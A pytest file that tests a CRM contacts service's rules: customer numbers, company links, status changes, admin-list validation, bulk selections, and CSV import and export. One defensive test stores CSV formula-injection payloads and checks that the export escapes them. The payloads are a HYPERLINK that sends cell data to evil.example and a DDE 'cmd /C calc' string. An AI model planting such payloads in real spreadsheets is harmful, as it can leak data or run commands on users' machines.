"""The contacts service's main rules on SQLite, without servers (the fast lane): customer
numbers, companies, status changes, the CRM admin lists and bulk selections, through
``ContactService`` and the import (``Importer``) as the routes call them."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from typing import Any

import pytest
from pydantic import ValidationError

from crm_contacts.copies import ContactCopies
from crm_contacts.importing.pipeline import Importer
from crm_contacts.main import MIGRATIONS
from crm_contacts.models import Contact
from crm_contacts.rules import status_after
from crm_contacts.schemas import (
    BulkRequest,
    ContactCreate,
    ContactFilter,
    ContactUpdate,
    GroupCreate,
    Selection,
    StatusChange,
)
from crm_contacts.service import ContactService
from crm_contacts.settings import Settings
from crm_dev.rules import emitted
from crm_dev.testing import RulesDb
from crm_shared.db import Database
from crm_shared.errors import Problem
from crm_shared.events import CrmSettingsChanged, Topic
from crm_shared.outbox import Outbox
from crm_shared.service import Runtime


@dataclass
class Contacts:
    """The contacts service's rules over a fresh database, as the routes use them."""

    db: Database
    outbox: Outbox
    copies: ContactCopies

    async def create(self, **fields: Any) -> Contact:
        async with self.db.unit_of_work() as session:
            return await self.service(session).create(ContactCreate.model_validate(fields))

    def service(self, session: Any) -> ContactService:
        return ContactService(session, self.outbox, self.copies)

    async def run(self, action: str, *args: Any) -> Any:
        """``ContactService.<action>(*args)`` in a unit of work of its own."""
        async with self.db.unit_of_work() as session:
            return await getattr(self.service(session), action)(*args)

    async def refused(self, action: str, *args: Any) -> Problem:
        with pytest.raises(Problem) as refused:
            await self.run(action, *args)
        return refused.value

    async def import_csv(self, *lines: str) -> tuple[int, list[tuple[int, str]]]:
        importer = Importer(self.db, self.outbox, self.copies, batch_size=100)
        progress = await importer.run(_chunks("\n".join(lines) + "\n"))
        return progress.created, progress.errors

    async def import_bytes(
        self, data: bytes, charset: str | None = None
    ) -> tuple[int, list[tuple[int, str]]]:
        importer = Importer(self.db, self.outbox, self.copies, batch_size=100)
        progress = await importer.run(_bytes(data), charset=charset)
        return progress.created, progress.errors

    async def allow(self, **lists: list[Any]) -> None:
        """The CRM admin lists as the campaigns service would announce them."""
        announced = CrmSettingsChanged(opportunity_statuses=[], version=1, **lists)
        await self.run("apply_crm_settings", announced)


async def _chunks(text: str) -> AsyncIterator[bytes]:
    yield text.encode()


async def _bytes(data: bytes) -> AsyncIterator[bytes]:
    for start in range(0, len(data), 1 << 16):
        yield data[start : start + (1 << 16)]


@pytest.fixture
async def contacts(rules_db: RulesDb) -> Contacts:
    db = await rules_db(MIGRATIONS)
    settings = Settings(copy_wait_seconds=0.2)
    # no consistency token in these tests: the copies are read as they are, no Kafka
    runtime = Runtime(settings=settings, producer=None, outbox=Outbox(settings.source), db=db)  # type: ignore[arg-type]
    runtime.consumed = {(settings.service_name, topic.value) for topic in Topic}
    return Contacts(db, runtime.outbox, ContactCopies(runtime))


def codes(problem: Problem) -> tuple[int, Any]:
    return problem.status, problem.extra.get("code")


# --- customer numbers -------------------------------------------------------------------


async def test_a_customer_number_is_refused_on_create_when_taken(contacts: Contacts) -> None:
    await contacts.create(kind="person", name="Erste", customer_number="K-1")
    taken = await contacts.refused(
        "create", ContactCreate(kind="person", name="Zweite", customer_number="K-1")
    )
    assert codes(taken) == (409, "customer_number_taken")


async def test_a_customer_number_is_refused_on_update_unless_it_is_the_own(
    contacts: Contacts,
) -> None:
    first = await contacts.create(kind="person", name="Erste", customer_number="K-1")
    second = await contacts.create(kind="person", name="Zweite")
    taken = await contacts.refused("update", second.id, ContactUpdate(customer_number="K-1"))
    assert codes(taken) == (409, "customer_number_taken")
    kept = await contacts.run(
        "update", first.id, ContactUpdate(customer_number="K-1", name="Erste GmbH")
    )
    assert (kept.customer_number, kept.name) == ("K-1", "Erste GmbH")


async def test_the_import_refuses_taken_numbers_also_within_the_file(
    contacts: Contacts,
) -> None:
    await contacts.create(kind="person", name="Vorher", customer_number="K-1")
    created, errors = await contacts.import_csv(
        "kind,name,customer_number",
        "person,Neu,K-2",
        "person,Vergeben,K-1",
        "person,Doppelt,K-2",
    )
    assert created == 1
    assert errors == [
        (3, "customer_number: K-1 is already used"),
        (4, "customer_number: K-2 is already used"),
    ]


# --- companies --------------------------------------------------------------------------


async def test_a_contact_person_belongs_to_a_company(contacts: Contacts) -> None:
    company = await contacts.create(kind="company", name="Firma")
    person = await contacts.create(kind="person", name="Anna", company_id=company.id)
    assert person.company_id == company.id
    no_company = await contacts.refused(
        "create", ContactCreate(kind="person", name="Bert", company_id=person.id)
    )
    assert (no_company.status, no_company.errors[0]["field"]) == (422, "company_id")
    itself = await contacts.refused("update", company.id, ContactUpdate(company_id=company.id))
    assert (itself.status, itself.errors[0]["field"]) == (422, "company_id")
    unknown = await contacts.refused(
        "update", person.id, ContactUpdate(company_id="no-such-contact")
    )
    assert unknown.status == 422


async def test_the_import_refuses_a_company_that_is_no_company(contacts: Contacts) -> None:
    company = await contacts.create(kind="company", name="Firma")
    person = await contacts.create(kind="person", name="Anna")
    created, errors = await contacts.import_csv(
        "kind,name,company_id",
        f"person,Bei Firma,{company.id}",
        f"person,Bei Person,{person.id}",
    )
    assert created == 1
    assert errors == [(3, f"company_id: {person.id} is not a company")]


# --- status -------------------------------------------------------------------------------


async def test_an_imported_contact_is_accepted_from_the_inbox(contacts: Contacts) -> None:
    created, _ = await contacts.import_csv("kind,name", "person,Aus dem Import")
    assert created == 1
    (imported,) = await emitted(contacts.db, "ContactCreated")
    assert imported.data["status"] == "inbox"  # type: ignore[index]
    result = await contacts.run(
        "bulk",
        BulkRequest(selection=Selection(contact_ids=[imported.subject]), action="accept"),
    )
    assert (result.selected, result.changed) == (1, 1)
    (changed,) = await emitted(contacts.db, "ContactStatusChanged")
    assert (changed.data["old_status"], changed.data["status"]) == ("inbox", "prospect")  # type: ignore[index]
    assert (await contacts.run("get", imported.subject)).status == "prospect"
    back = await contacts.refused("change_status", imported.subject, StatusChange(status="inbox"))
    assert back.status == 409  # only an import puts contacts there


async def test_archive_and_restore_return_to_the_status_before(contacts: Contacts) -> None:
    contact = await contacts.create(kind="person", name="Kunde", status="customer", confirm=True)
    archived = await contacts.run("change_status", contact.id, StatusChange(status="archived"))
    assert (archived.status, archived.status_before_archive) == ("archived", "customer")
    not_so = await contacts.refused("change_status", contact.id, StatusChange(status="prospect"))
    assert not_so.status == 409
    restored = await contacts.run("change_status", contact.id, StatusChange(status="restore"))
    assert (restored.status, restored.status_before_archive) == ("customer", None)
    again = await contacts.refused("change_status", contact.id, StatusChange(status="restore"))
    assert again.status == 409


async def test_a_customer_needs_the_confirmation(contacts: Contacts) -> None:
    contact = await contacts.create(kind="person", name="Interessent")
    unconfirmed = await contacts.refused(
        "change_status", contact.id, StatusChange(status="customer")
    )
    assert codes(unconfirmed) == (409, "confirmation_required")
    confirmed = await contacts.run(
        "change_status", contact.id, StatusChange(status="customer", confirm=True)
    )
    assert confirmed.status == "customer"


@pytest.mark.parametrize(
    ("old", "wanted", "confirm", "before", "new"),
    [
        ("inbox", "prospect", False, None, "prospect"),
        ("inbox", "customer", True, None, "customer"),
        ("prospect", "prospect", False, None, None),
        ("prospect", "archived", False, None, "archived"),
        ("archived", "restore", False, "inbox", "inbox"),
        ("archived", "restore", False, None, "prospect"),
    ],
)
def test_status_after(old: str, wanted: str, confirm: bool, before: str | None, new: str) -> None:
    assert status_after(old, wanted, confirm=confirm, before_archive=before) == new


@pytest.mark.parametrize(
    ("old", "wanted"),
    [
        ("prospect", "inbox"),
        ("prospect", "customer"),
        ("inbox", "customer"),
        ("archived", "prospect"),
        ("prospect", "restore"),
    ],
)
def test_status_after_refuses(old: str, wanted: str) -> None:
    with pytest.raises(Problem) as refused:
        status_after(old, wanted, confirm=False, before_archive=None)
    assert refused.value.status == 409


# --- CRM values against the admin lists -----------------------------------------------


async def test_crm_values_outside_the_admin_lists_are_refused(contacts: Contacts) -> None:
    unknown = await contacts.refused(
        "create",
        ContactCreate.model_validate(
            {"kind": "company", "name": "F", "crm": {"company_size": "gross"}}
        ),
    )
    assert unknown.status == 503  # no list announced yet
    await contacts.allow(company_sizes=[{"name": "klein", "min": "0"}], products=["A"])
    outside = await contacts.refused(
        "create",
        ContactCreate.model_validate(
            {"kind": "company", "name": "F", "crm": {"company_size": "gross", "products": ["A"]}}
        ),
    )
    assert outside.status == 422
    assert [e["field"] for e in outside.errors] == ["crm.company_size"]
    company = await contacts.create(
        kind="company", name="F", crm={"company_size": "klein", "products": ["A"]}
    )
    await contacts.allow(company_sizes=[{"name": "mittel", "min": "0"}], products=["A"])
    # a change checks only the values it sets: "klein", no longer listed, stays
    kept = await contacts.run(
        "update", company.id, ContactUpdate(crm={"products": ["A"], "comment1": "x"})
    )
    assert kept.crm["company_size"] == "klein"
    refused = await contacts.refused("update", company.id, ContactUpdate(crm={"products": ["B"]}))
    assert [e["field"] for e in refused.errors] == ["crm.products"]


async def test_the_import_reports_crm_values_outside_the_admin_lists(contacts: Contacts) -> None:
    await contacts.allow(products=["A"])
    created, errors = await contacts.import_csv(
        "kind,name,crm.products", "person,Gut,A", "person,Schlecht,B"
    )
    assert created == 1
    assert [(line, message.split(":")[0]) for line, message in errors] == [(3, "crm.products")]


# --- bulk selections ------------------------------------------------------------------------


async def test_a_bulk_selection_by_ids_counts_each_known_contact_once(contacts: Contacts) -> None:
    a = await contacts.create(kind="person", name="A")
    b = await contacts.create(kind="person", name="B")
    result = await contacts.run(
        "bulk",
        BulkRequest(
            selection=Selection(contact_ids=[a.id, a.id, b.id, "unknown"]), action="archive"
        ),
    )
    assert (result.selected, result.changed) == (2, 2)
    again = await contacts.run(
        "bulk", BulkRequest(selection=Selection(contact_ids=[a.id]), action="archive")
    )
    assert (again.selected, again.changed) == (1, 0)  # archived already


async def test_a_temporary_group_is_used_up_by_one_bulk_action(contacts: Contacts) -> None:
    a = await contacts.create(kind="person", name="A")
    b = await contacts.create(kind="person", name="B")
    group = await contacts.run(
        "create_group", GroupCreate(name="Auswahl", kind="temporary", contact_ids=[a.id, b.id])
    )
    result = await contacts.run(
        "bulk", BulkRequest(selection=Selection(group_id=group.id), action="archive")
    )
    assert (result.selected, result.changed) == (2, 2)
    gone = await contacts.refused("get_group", group.id)
    assert gone.status == 404
    unknown = await contacts.refused(
        "bulk", BulkRequest(selection=Selection(group_id=group.id), action="archive")
    )
    assert unknown.status == 404


async def test_a_dynamic_group_selects_by_its_filter(contacts: Contacts) -> None:
    await contacts.create(kind="company", name="Firma")
    person = await contacts.create(kind="person", name="Person")
    group = await contacts.run(
        "create_group",
        GroupCreate(name="Personen", kind="dynamic", filter=ContactFilter(kind="person")),
    )
    result = await contacts.run(
        "bulk", BulkRequest(selection=Selection(group_id=group.id), action="archive")
    )
    assert (result.selected, result.changed) == (1, 1)
    assert (await contacts.run("get", person.id)).status == "archived"
    no_members = await contacts.refused("add_members_to", group.id, [person.id])
    assert no_members.status == 409


async def test_a_resolved_selection_streams_its_contacts_and_their_count(
    contacts: Contacts,
) -> None:
    a = await contacts.create(kind="person", name="A")
    b = await contacts.create(kind="person", name="B")
    group = await contacts.run(
        "create_group", GroupCreate(name="Einmal", kind="temporary", contact_ids=[a.id, b.id])
    )
    async with contacts.db.unit_of_work() as session:
        stream = await contacts.service(session).resolve_selection(
            Selection(group_id=group.id), contacts.db
        )
    lines = [line async for chunk in stream for line in chunk.splitlines()]
    assert lines[-1] == b'{"count":2}'
    assert sorted(ids(lines[:-1])) == sorted([a.id, b.id])
    assert (await contacts.refused("get_group", group.id)).status == 404


def ids(lines: Sequence[bytes]) -> list[str]:
    return [line.split(b'"id":"', 1)[1].split(b'"', 1)[0].decode() for line in lines]


# --- what a fuzzer and a careful tester found (issue 19) --------------------------------


async def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(
    contacts: Contacts,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    await contacts.create(
        kind="person",
        name=formula,
        phone="+49 30 1234567",
        crm={"comment1": "-2+3+cmd|' /C calc'!A0", "comment2": "@SUM(A1:A9)"},
    )
    await contacts.create(kind="person", name="Anna", crm={"employees": 12})
    stream = await contacts.run("export_csv", ContactFilter(), contacts.db)
    text = "".join([piece async for piece in stream])
    header, *rows = csv.reader(io.StringIO(text))
    by_name = {row[header.index("name")]: dict(zip(header, row, strict=True)) for row in rows}
    evil = by_name["'" + formula]
    assert evil["phone"] == "'+49 30 1234567"
    assert evil["crm.comment2"] == "'@SUM(A1:A9)"
    assert evil["crm.comment1"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_name["Anna"]["crm.employees"] == "12"  # everything else as it was


async def test_null_for_a_required_field_of_a_contact_is_refused_naming_it() -> None:
    for name in ("name", "kind", "language", "credit_hold"):
        with pytest.raises(ValidationError) as refused:
            ContactUpdate.model_validate({name: None})
        assert [e["loc"] for e in refused.value.errors()] == [(name,)]
    cleared = ContactUpdate.model_validate({"email": None, "phone": None, "address": None})
    assert cleared.model_dump(exclude_unset=True) == {"email": None, "phone": None, "address": None}


async def test_control_characters_in_what_people_type_are_refused(contacts: Contacts) -> None:
    for fields in (
        {"name": "Anna\x00"},
        {"name": "Anna\nBerta"},
        {"phone": "030\x1b[2J"},
        {"crm": {"comment1": "gut\x07"}},
        {"address": {"city": "Kö\u0085ln"}},
    ):
        with pytest.raises(ValidationError) as refused:
            ContactCreate.model_validate({"kind": "person", "name": "Anna", **fields})
        assert refused.value.errors()[0]["type"] == "string_pattern_mismatch", fields
    created, errors = await contacts.import_csv(
        "kind,name,phone", "person,Anna\x00,", "person,Berta,030\x7f", "person,Carla,"
    )
    assert created == 1
    assert errors == [
        (2, "name: must be one line without control characters"),
        (3, "phone: must be one line without control characters"),
    ]
    ok = ContactCreate.model_validate(
        {"kind": "person", "name": " Jörg Müller-Lüdenscheidt 👍\n", "crm": {"comment1": "a\tb\nc"}}
    )
    assert (ok.name, ok.crm.comment1) == ("Jörg Müller-Lüdenscheidt 👍", "a\tb\nc")


async def test_an_import_from_excel_in_a_german_office_keeps_its_umlauts(
    contacts: Contacts,
) -> None:
    latin = "kind,name,crm.comment1\r\nperson,Jörg Müller,Grüße\r\n".encode("cp1252")
    assert await contacts.import_bytes(latin) == (1, [])
    assert await contacts.import_bytes(latin, "iso-8859-1") == (1, [])
    wide = "kind,name\r\nperson,Anna Weiß\r\n".encode("utf-16")
    assert await contacts.import_bytes(wide) == (1, [])
    page = await contacts.run("page", ContactFilter(), None, 10)
    assert sorted(c.name for c in page.items) == ["Anna Weiß", "Jörg Müller", "Jörg Müller"]
    assert {c.crm.get("comment1") for c in page.items} == {"Grüße", None}


async def test_a_cell_over_128_kib_is_a_row_error(contacts: Contacts) -> None:
    data = f"kind,name\nperson,Anna\nperson,{'x' * 200_000}\nperson,Berta\n".encode()
    created, errors = await contacts.import_bytes(data)
    assert created == 2
    assert errors == [(3, "name: String should have at most 300 characters")]


async def test_an_escaped_formula_from_an_export_imports_as_it_was(contacts: Contacts) -> None:
    created, errors = await contacts.import_csv("kind,name,phone", "person,'=1+2,'+49 30 1")
    assert (created, errors) == (1, [])
    stream = await contacts.run("export_csv", ContactFilter(), contacts.db)
    [row] = list(csv.DictReader(io.StringIO("".join([piece async for piece in stream]))))
    assert (row["name"], row["phone"]) == ("'=1+2", "'+49 30 1")  # escaped again
    [contact] = (await contacts.run("page", ContactFilter(), None, 10)).items
    assert (contact.name, contact.phone) == ("=1+2", "+49 30 1")
